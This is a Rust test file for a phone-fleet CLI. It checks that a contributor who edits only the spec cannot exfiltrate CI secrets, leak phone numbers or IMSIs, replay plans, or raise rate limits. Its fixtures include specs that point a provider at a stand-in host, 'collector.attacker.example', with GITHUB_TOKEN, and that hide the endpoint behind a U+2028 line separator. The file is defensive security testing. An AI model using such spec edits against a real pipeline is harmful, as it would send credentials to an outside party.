//! The pull request as attack surface: what a contributor who edits only the spec can make `plan` and
//! `apply` do, tried as such a contributor would (issue: "a spec edit cannot steal secrets, PII or a
//! replay").

use std::time::Duration;

use serde_json::{Value, json};

use crate::support::fake::{Fake, Reply};
use crate::support::{Dir, Sim, one_provider, pf, reseal};

/// A loopback HTTPS proxy that records every connection (a CONNECT names the host it was asked for)
/// and refuses them all.
fn capture_proxy() -> Fake {
    Fake::start(|_| Reply::Json(403, vec![], "{}".into()))
}

fn attacker_spec(endpoint: &str, var: &str) -> String {
    format!(
        "version: 1\nproviders:\n  gl:\n    kind: geelark\n    endpoint: {endpoint}\n    \
         credentials: {{token_env: {var}}}\nphones:\n  - {{id: g1, provider: gl, state: running}}\n"
    )
}

#[test]
fn a_spec_cannot_send_a_secret_to_a_host_of_its_choosing() {
    let proxy = capture_proxy();
    let dir = Dir::with_spec(&attacker_spec(
        "https://collector.attacker.example",
        "GITHUB_TOKEN",
    ));
    let run = |args: &[&str]| {
        pf(args)
            .env("GITHUB_TOKEN", "ghs_secret_of_the_ci_123456")
            .env("HTTPS_PROXY", &proxy.url)
            .env("https_proxy", &proxy.url)
            .run()
    };
    for args in [
        &["validate", &dir.spec()][..],
        &["plan", &dir.spec()],
        &["apply", &dir.spec(), "--auto-approve"],
        &["export", &dir.spec()],
    ] {
        let out = run(args);
        out.code(1)
            .no_panic()
            .stderr_has("spec.yaml:5:15: providers.gl.endpoint: endpoint host `collector.attacker.example` is not an official geelark host")
            .stderr_has("PHONEFLEET_ALLOW_ENDPOINTS=collector.attacker.example")
            .stderr_has("providers.gl.credentials.token_env: `GITHUB_TOKEN` is not a variable meant for phonefleet")
            .stderr_has("PHONEFLEET_ALLOW_ENV=GITHUB_TOKEN");
        assert!(!out.stderr.contains("ghs_secret"), "{}", out.stderr);
    }
    assert!(
        proxy.requests().is_empty(),
        "no connection was made: {:?}",
        proxy.requests()
    );
    // `--simulate` is unaffected: the local simulator stands in, and nothing reaches the spec's host.
    pf(&["plan", "--simulate", "spec.yaml"])
        .dir(dir.dir.path())
        .env("HTTPS_PROXY", &proxy.url)
        .run()
        .code(0)
        .no_panic();
    assert!(proxy.requests().is_empty(), "{:?}", proxy.requests());
    // The signing key is never a token, allowed or not.
    let sk = Dir::with_spec(&attacker_spec("http://127.0.0.1:9", "HUAWEICLOUD_SDK_SK"));
    pf(&["plan", &sk.spec()])
        .env("HUAWEICLOUD_SDK_SK", "sk-never-sent-123456")
        .env("PHONEFLEET_ALLOW_ENV", "HUAWEICLOUD_SDK_SK")
        .run()
        .code(1)
        .stderr_has("`HUAWEICLOUD_SDK_SK` holds a signing key, which phonefleet never sends");
    // Allowed from outside the spec, both go through: the proxy is asked for the host.
    let out = run(&["plan", &dir.spec(), "--timeout", "5"]);
    assert!(
        out.stderr.contains("not an official"),
        "refused without consent"
    );
    let allowed = pf(&["plan", &dir.spec(), "--timeout", "5"])
        .env("GITHUB_TOKEN", "ghs_secret_of_the_ci_123456")
        .env("HTTPS_PROXY", &proxy.url)
        .env("https_proxy", &proxy.url)
        .env("PHONEFLEET_ALLOW_ENDPOINTS", "collector.attacker.example")
        .env("PHONEFLEET_ALLOW_ENV", "GITHUB_TOKEN")
        .run();
    allowed.code(1).no_panic();
    assert!(!allowed.stdout.contains("ghs_secret") && !allowed.stderr.contains("ghs_secret"));
    let asked: Vec<String> = proxy.requests().iter().map(|r| r.path.clone()).collect();
    assert!(
        asked
            .iter()
            .any(|p| p.starts_with("collector.attacker.example:443")),
        "{asked:?}"
    );
}

#[test]
fn a_non_default_endpoint_is_named_for_the_reviewer() {
    let sim = Sim::start("phones:\n  - {provider: geelark, id: g1, status: running}\n");
    let dir = Dir::with_spec(&one_provider(
        "geelark",
        &sim.url(),
        "  - {id: g1, provider: gl, state: running}\n",
    ));
    let shown = format!("Provider `gl` sends its calls to {}", sim.url());
    pf(&["plan", &dir.spec()])
        .run()
        .code(0)
        .stdout_has_text(&shown);
    pf(&["plan", &dir.spec(), "--markdown"])
        .run()
        .code(0)
        .stdout_has(&format!("Provider `gl` sends its calls to `{}`", sim.url()));
    let json: Value = pf(&["plan", &dir.spec(), "--json"]).run().json();
    assert_eq!(json["summary"]["endpoints"]["gl"], json!(sim.url()));
}

const NUMBER_LIVE: &str = "13666666666";
const NUMBER_NEW: &str = "13777777777";
const IMSI_LIVE: &str = "460021624617113";

/// Every form a value could take in a file: raw, percent-encoded, base64 (both alphabets, three
/// alignments), hex of its SHA-256.
fn forms(value: &str) -> Vec<String> {
    use sha2::Digest;
    let mut out = vec![value.to_owned(), hex::encode(sha2::Sha256::digest(value))];
    let b64 = |bytes: &[u8]| {
        const A: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
        let mut s = String::new();
        for c in bytes.chunks(3) {
            let n = c
                .iter()
                .enumerate()
                .fold(0u32, |n, (i, b)| n | u32::from(*b) << (16 - 8 * i));
            for i in 0..=c.len() {
                s.push(A[(n >> (18 - 6 * i) & 63) as usize] as char);
            }
        }
        s
    };
    for skip in 0..3 {
        let mut bytes = vec![b'"'; skip];
        bytes.extend_from_slice(value.as_bytes());
        let text = b64(&bytes);
        out.push(text[if skip == 0 { 0 } else { 4 }..bytes.len() / 3 * 4].to_owned());
    }
    out
}

#[test]
fn a_saved_plan_holds_no_sensitive_value_in_any_form() {
    let sim = Sim::start(&format!(
        "phones:\n  - {{provider: huawei-cph, id: c1, project_id: p1, status: running, traffic: direct, \
         properties: {{sys.prop.writephonenum: \"{NUMBER_LIVE}\", sys.prop.writeimsi: \"{IMSI_LIVE}\", \
         ro.team: a}}}}\n  - {{provider: huawei-cph, id: c2, project_id: p1, status: running, traffic: direct, \
         properties: {{sys.prop.writephonenum: \"{NUMBER_LIVE}\"}}}}\n"
    ));
    let dir = Dir::with_spec(&one_provider(
        "huawei-cph",
        &sim.url(),
        &format!(
            "  - {{id: c1, provider: cph, properties: {{sys.prop.writephonenum: \"{NUMBER_NEW}\", \
             sys.prop.writeimsi: \"{IMSI_LIVE}\", ro.team: b}}}}\n  - {{id: c2, provider: cph, \
             properties: {{sys.prop.writephonenum: \"{NUMBER_LIVE}\"}}}}\n"
        ),
    ));
    let plan_file = dir.path("plan.json");
    pf(&["plan", &dir.spec(), "--out", &plan_file])
        .run()
        .code(0);
    let text = dir.read("plan.json");
    for value in [NUMBER_LIVE, NUMBER_NEW, IMSI_LIVE] {
        for form in forms(value) {
            assert!(!text.contains(&form), "{value} as {form} in:\n{text}");
        }
    }
    let file: Value = serde_json::from_str(&text).unwrap();
    assert_eq!(file["format_version"], "2");
    assert_eq!(
        file["phones"][0]["keys"],
        json!(["ro.team", "sys.prop.writephonenum"])
    );
    assert!(
        file["phones"][0]["observed"]
            .as_str()
            .unwrap()
            .starts_with("hmac-sha256:")
    );
    // Another key (a rotated credential) cannot use the plan: the seal says so before any call.
    let before = sim.stats().values().sum::<u64>();
    pf(&["apply", &plan_file])
        .env("PHONEFLEET_CPH_TOKEN", "a-rotated-token-999999")
        .run()
        .code(1)
        .stderr_has("the plan's seal does not verify for `cph` with the credentials in force");
    assert_eq!(sim.stats().values().sum::<u64>(), before, "no call at all");
    // Apply takes the values from the spec.
    pf(&["apply", &plan_file])
        .run()
        .code(0)
        .stdout_has("Apply: 1 ok");
    let phones = sim.phones();
    assert_eq!(
        phones["c1"]["properties"]["sys.prop.writephonenum"], NUMBER_NEW,
        "{phones:?}"
    );
    // A format "1" file is refused with what to do.
    let old = dir.write(
        "old.json",
        r#"{"kind": "phonefleet-plan", "format_version": "1", "plan": {}}"#,
    );
    pf(&["apply", &old])
        .run()
        .code(1)
        .stderr_has("format \"1\"")
        .stderr_has("Make a new plan");
}

#[test]
fn a_read_error_echoing_a_sensitive_value_shows_it_masked() {
    let echo = Fake::start(|req| {
        if req.path.contains("/phones/c1") {
            let body = json!({"error_code": "CPS.0001",
                "error_msg": format!("failed reading sys.prop.writephonenum={NUMBER_NEW} \
                 (as url: sys.prop.writephonenum%3D{NUMBER_NEW})")});
            return Reply::Json(400, vec![], body.to_string());
        }
        let phones = json!([{"phone_id": "c1", "status": 2, "traffic_type": "direct"}]);
        let body = if req.path.contains("offset=0") {
            json!({"count": 1, "phones": phones})
        } else {
            json!({"count": 1, "phones": []})
        };
        Reply::Json(200, vec![], body.to_string())
    });
    let dir = Dir::with_spec(&one_provider(
        "huawei-cph",
        &echo.url,
        &format!(
            "  - {{id: c1, provider: cph, properties: {{sys.prop.writephonenum: \"{NUMBER_NEW}\"}}}}\n"
        ),
    ));
    for format in ["--text", "--markdown", "--json"] {
        let args: Vec<&str> = if format == "--text" {
            vec!["plan"]
        } else {
            vec!["plan", format]
        };
        let out = pf(&args).arg(dir.spec()).run();
        out.code(1).no_panic();
        let all = format!("{}{}", out.stdout, out.stderr);
        assert!(
            all.contains("failed reading"),
            "{format}: the error is shown:\n{all}"
        );
        assert!(!all.contains(NUMBER_NEW), "{format}:\n{all}");
        assert!(all.contains("(sensitive)"), "{format}:\n{all}");
    }
}

#[test]
fn hidden_line_breaks_and_bidi_controls_are_refused_where_they_stand() {
    let spec = "version: 1\nproviders:\n  gl:\n    kind: geelark\n    credentials: {token_env: GEELARK_TOKEN}\n\
                # reviewed comment\u{2028}    endpoint: https://collector.attacker.example\n\
                phones:\n  - {id: \"g1\u{202E}\", provider: gl}\n  - {id: g2\u{0085}, provider: gl}\n";
    let dir = Dir::with_spec(spec);
    let out = pf(&["validate", &dir.spec()]).run();
    out.code(1)
        .no_panic()
        .stderr_has("spec.yaml:6:19: U+2028 (LINE SEPARATOR) is not allowed in a spec")
        .stderr_has("spec.yaml:8:13: U+202E (RIGHT-TO-LEFT OVERRIDE) is not allowed")
        .stderr_has("spec.yaml:9:12: U+0085 (NEXT LINE) is not allowed");
    assert!(!out.stderr.contains('\u{2028}') && !out.stderr.contains('\u{202E}'));
    pf(&["plan", &dir.spec()])
        .run()
        .code(1)
        .stderr_has("U+2028");
}

#[test]
fn an_old_plan_is_refused_and_a_forged_age_is_caught() {
    let sim = Sim::start("phones:\n  - {provider: geelark, id: g1, status: running}\n");
    let dir = Dir::with_spec(&one_provider(
        "geelark",
        &sim.url(),
        "  - {id: g1, provider: gl, state: stopped}\n",
    ));
    let plan_file = dir.path("plan.json");
    pf(&["plan", &dir.spec(), "--out", &plan_file])
        .run()
        .code(0)
        .stderr_has("within 1d 0h (--max-plan-age)");
    let mut file: Value = serde_json::from_str(&dir.read("plan.json")).unwrap();
    let now = file["created_at"].as_u64().unwrap();
    // The same plan, as if replayed two days later (made at now - 2 days, sealed by the CI's key).
    file["created_at"] = json!(now - 2 * 86_400);
    let replayed = dir.write("replayed.json", &reseal(file.clone()));
    pf(&["apply", &replayed])
        .run()
        .code(1)
        .stderr_has("the plan was made 2d 0h ago, longer than --max-plan-age allows (1d 0h)")
        .stderr_has("make a fresh one");
    pf(&["apply", &replayed, "--max-plan-age", "259200"])
        .run()
        .code(0);
    assert_eq!(sim.mutating_calls(), 1);
    // Someone without the key who makes a plan look young again breaks its seal.
    file["created_at"] = json!(now + 3600);
    let forged = dir.write("forged.json", &crate::support::redigest(file));
    pf(&["apply", &forged])
        .run()
        .code(1)
        .stderr_has("seal does not verify");
    assert_eq!(sim.mutating_calls(), 1);
}

#[test]
fn a_second_apply_on_the_same_account_is_refused_naming_the_first() {
    // Every answer takes a second: the first apply is still at work when the second starts.
    let sim = Sim::with(
        "phones:\n  - {provider: geelark, id: g1, status: running}\n  - {provider: geelark, id: g2, status: running}\n",
        phonefleet::simulator::SimConfig {
            latency: Duration::from_millis(1000),
            ..Default::default()
        },
    );
    let dir = Dir::with_spec(&one_provider(
        "geelark",
        &sim.url(),
        "  - {id: g1, provider: gl, state: stopped}\n  - {id: g2, provider: gl, state: stopped}\n",
    ));
    let locks = tempfile::tempdir().unwrap();
    let runtime = locks.path().display().to_string();
    let first = pf(&["apply", &dir.spec(), "--auto-approve"])
        .env("XDG_RUNTIME_DIR", &runtime)
        .spawn();
    // The first holds the lock before its first read.
    let deadline = std::time::Instant::now() + Duration::from_secs(20);
    while sim.stats().is_empty() && std::time::Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(20));
    }
    let second = pf(&["apply", &dir.spec(), "--auto-approve"])
        .env("XDG_RUNTIME_DIR", &runtime)
        .run();
    second
        .code(1)
        .no_panic()
        .stderr_has("another apply is running against provider `gl`")
        .stderr_has(&format!("held by pid {}", first.id()))
        .stderr_has("--lock-timeout");
    // The same account spelled otherwise (`localhost`, upper case, a trailing dot and slash) is the
    // same lock.
    let port = sim.url().rsplit(':').next().unwrap().to_owned();
    let respelled = Dir::with_spec(&one_provider(
        "geelark",
        &format!("http://LocalHost.:{port}/"),
        "  - {id: g1, provider: gl, state: stopped}\n  - {id: g2, provider: gl, state: stopped}\n",
    ));
    pf(&["apply", &respelled.spec(), "--auto-approve"])
        .env("XDG_RUNTIME_DIR", &runtime)
        .run()
        .code(1)
        .no_panic()
        .stderr_has("another apply is running against provider `gl`");
    let (code, _) = crate::support::wait_with_rusage(&first);
    let first = crate::support::collect(first, code);
    first.code(0).stdout_has("Apply: 2 ok");
    assert_eq!(
        sim.mutating_calls(),
        1,
        "one stop call, from the first apply only"
    );
    // A lock whose process is gone is free: the next apply runs (nothing left to do).
    pf(&["apply", &dir.spec(), "--auto-approve"])
        .env("XDG_RUNTIME_DIR", &runtime)
        .run()
        .code(0);
    assert_eq!(sim.mutating_calls(), 1);
}

#[test]
fn endless_or_huge_input_is_refused_quickly_and_numbers_out_of_range_are_usage_errors() {
    let dir = Dir::with_spec("");
    pf(&["validate", "/dev/zero"])
        .run()
        .code(1)
        .no_panic()
        .stderr_has("it is a device, not a regular file");
    // A spec directory with a file that is a link to a device, or a FIFO.
    let fleet = dir.dir.path().join("fleet");
    std::fs::create_dir(&fleet).unwrap();
    std::fs::write(
        fleet.join("00-providers.yaml"),
        "version: 1\nproviders:\n  gl: {kind: geelark}\n",
    )
    .unwrap();
    std::os::unix::fs::symlink("/dev/zero", fleet.join("10-phones.yaml")).unwrap();
    let shown = fleet.display().to_string();
    pf(&["plan", &shown])
        .run()
        .code(1)
        .stderr_has("10-phones.yaml: it is a device, not a regular file");
    std::fs::remove_file(fleet.join("10-phones.yaml")).unwrap();
    let fifo = fleet.join("10-phones.yaml");
    assert!(
        std::process::Command::new("mkfifo")
            .arg(&fifo)
            .status()
            .unwrap()
            .success()
    );
    pf(&["validate", &shown])
        .run_within(Duration::from_secs(30))
        .code(1)
        .stderr_has("a named pipe (FIFO), not a regular file");
    // 200 KB of `[`.
    let deep = dir.write(
        "deep.yaml",
        &format!("version: 1\nproviders: {}", "[".repeat(200_000)),
    );
    pf(&["validate", &deep])
        .run_within(Duration::from_secs(30))
        .code(1)
        .stderr_has("nest deeper than 64 levels");
    // A 200 MB "plan".
    let big = dir.dir.path().join("big.json");
    {
        use std::io::Write;
        let mut f = std::fs::File::create(&big).unwrap();
        f.write_all(br#"{"kind": "phonefleet-plan", "format_version": "2", "pad": ""#)
            .unwrap();
        let chunk = vec![b'a'; 1 << 20];
        for _ in 0..200 {
            f.write_all(&chunk).unwrap();
        }
        f.write_all(b"\"}").unwrap();
    }
    let child = pf(&["apply", &big.display().to_string()]).spawn();
    let (code, max_rss_kb) = crate::support::wait_with_rusage(&child);
    let out = crate::support::collect(child, code);
    out.code(1).stderr_has("larger than 64 MiB");
    assert!(max_rss_kb < 300 * 1024, "peak memory {max_rss_kb} KiB");
    for args in [
        &["plan", "x.yaml", "--timeout", "18446744073709551614"][..],
        &["apply", "x.yaml", "--timeout", "99999999999"],
        &["apply", "x.yaml", "--max-plan-age", "0"],
        &["simulate", "--transition-ms", "18446744073709551614"],
    ] {
        pf(args).run().code(1).no_panic();
    }
}

#[test]
fn the_simulator_state_is_never_written_through_a_link() {
    let dir = Dir::with_spec(
        "version: 1\nproviders:\n  gl:\n    kind: geelark\n    credentials: {token_env: GEELARK_TOKEN}\n\
         phones:\n  - {id: g1, provider: gl, state: running}\n",
    );
    let state = dir.dir.path().join(".phonefleet");
    std::fs::create_dir(&state).unwrap();
    let target = dir.dir.path().join("precious.txt");
    std::fs::write(&target, "keep me").unwrap();
    std::os::unix::fs::symlink(&target, state.join("simulator.json")).unwrap();
    pf(&["plan", "--simulate", "spec.yaml"])
        .dir(dir.dir.path())
        .run()
        .code(1)
        .no_panic()
        .stderr_has("symbolic link");
    assert_eq!(std::fs::read_to_string(&target).unwrap(), "keep me");
    // Without the link, the state is written whole and read back by the next run.
    std::fs::remove_file(state.join("simulator.json")).unwrap();
    pf(&["apply", "--simulate", "spec.yaml", "--auto-approve"])
        .dir(dir.dir.path())
        .run()
        .code(0);
    let names: Vec<String> = std::fs::read_dir(&state)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    assert_eq!(names, ["simulator.json"], "no temporary file left behind");
}

/// The reviewed spec signs CPH calls with `sk_env: CPH_SK`; a pull request turns the entry into a GeeLark
/// one with `token_env: CPH_SK` (or any variable meant for Huawei): Huawei's key would go to another
/// company as a bearer token. A variable reaches only the kind it is meant for; the workflow may allow
/// one for a kind (`NAME:kind`), and a signing key is never sent, allowed or not.
#[test]
fn a_variable_reaches_only_the_provider_kind_it_is_meant_for() {
    let proxy = capture_proxy();
    let run = |var: &str, allow: Option<&str>| {
        let dir = Dir::with_spec(&attacker_spec("https://openapi.geelark.com", var));
        let mut cmd = pf(&["plan", &dir.spec(), "--timeout", "5"])
            .env(var, "huawei-secret-value-123456")
            .env("HTTPS_PROXY", &proxy.url)
            .env("https_proxy", &proxy.url);
        if let Some(allow) = allow {
            cmd = cmd.env("PHONEFLEET_ALLOW_ENV", allow);
        }
        let out = cmd.run();
        out.code(1).no_panic();
        assert!(
            !format!("{}{}", out.stdout, out.stderr).contains("huawei-secret-value"),
            "{}",
            out.stderr
        );
        out
    };
    run("CPH_SK", None)
        .stderr_has("providers.gl.credentials.token_env: `CPH_SK` holds a signing key, which phonefleet never sends");
    run("CPH_SK", Some("CPH_SK:geelark")).stderr_has("`CPH_SK` holds a signing key");
    run("CPH_TOKEN", None)
        .stderr_has("`CPH_TOKEN` is meant for huawei-cph providers, not for a geelark provider")
        .stderr_has("PHONEFLEET_ALLOW_ENV=CPH_TOKEN:geelark");
    run("HUAWEICLOUD_SDK_AK", None)
        .stderr_has("`HUAWEICLOUD_SDK_AK` is meant for huawei-cph and koophone providers");
    run("PHONEFLEET_CPH_TOKEN", None).stderr_has("is meant for huawei-cph providers");
    // Allowed for another kind only: still refused here.
    run("CPH_TOKEN", Some("CPH_TOKEN:huawei-cph")).stderr_has("is meant for huawei-cph providers");
    run("CPH_TOKEN", Some("CPH_TOKEN:geelrk")).stderr_has("is meant for huawei-cph providers");
    assert!(
        proxy.requests().is_empty(),
        "nothing left the machine: {:?}",
        proxy.requests()
    );
    // Allowed for geelark by the workflow: it goes (the proxy is asked for GeeLark's host).
    let _ = run("CPH_TOKEN", Some("CPH_TOKEN:geelark"));
    let asked: Vec<String> = proxy.requests().iter().map(|r| r.path.clone()).collect();
    assert!(
        asked
            .iter()
            .any(|p| p.starts_with("openapi.geelark.com:443")),
        "{asked:?}"
    );
}

/// A spec may only lower the documented limits: `plan` runs on a pull request's spec with CI's real
/// token before review, and a raised rate can lock GeeLark's API for two hours. Raising is the
/// workflow's decision (`PHONEFLEET_ALLOW_RAISED_LIMITS=1`); the simulator counts what was sent.
#[test]
fn a_spec_cannot_raise_the_rate_limits() {
    let phones: String = (0..50)
        .map(|i| format!("  - {{provider: geelark, id: g{i}, status: running}}\n"))
        .collect();
    let sim = Sim::start(&format!("phones:\n{phones}"));
    let declared: String = (0..50)
        .map(|i| format!("  - {{id: g{i}, provider: gl, state: running}}\n"))
        .collect();
    let spec = one_provider("geelark", &sim.url(), &declared).replace(
        "    credentials:",
        "    limits: {requests_per_minute: 100000, requests_per_hour: 10000000, batch_size: 1, concurrency: 256, rate_margin_percent: 0}\n    credentials:",
    );
    let dir = Dir::with_spec(&spec);
    let out = pf(&["plan", &dir.spec()]).run();
    out.code(1)
        .no_panic()
        .stderr_has("providers.gl.limits.requests_per_minute: 100000 raises geelark's rate limit (180 a minute")
        .stderr_has("providers.gl.limits.requests_per_hour: 10000000 raises")
        .stderr_has("providers.gl.limits.concurrency: 256 raises the default concurrency")
        .stderr_has("providers.gl.limits.rate_margin_percent: 0 narrows the margin")
        .stderr_has("PHONEFLEET_ALLOW_RAISED_LIMITS=1");
    assert!(
        !out.stderr.contains("batch_size"),
        "a smaller batch lowers nothing it may not: {}",
        out.stderr
    );
    assert_eq!(
        sim.stats().values().sum::<u64>(),
        0,
        "not one call was sent"
    );
    // Lowering is the spec's to do.
    let lowered = Dir::with_spec(&one_provider("geelark", &sim.url(), &declared).replace(
        "    credentials:",
        "    limits: {requests_per_minute: 60, batch_size: 10, concurrency: 2}\n    credentials:",
    ));
    pf(&["plan", &lowered.spec()]).run().code(0);
    assert_eq!(
        sim.stats().values().sum::<u64>(),
        6,
        "50 phones, 10 a call, and one list of the account"
    );
    // Raised by the workflow's decision, the spec's numbers are used.
    pf(&["plan", &dir.spec()])
        .env("PHONEFLEET_ALLOW_RAISED_LIMITS", "1")
        .run()
        .code(0);
    assert_eq!(
        sim.stats().values().sum::<u64>(),
        6 + 51,
        "one id a call, and the list"
    );
}
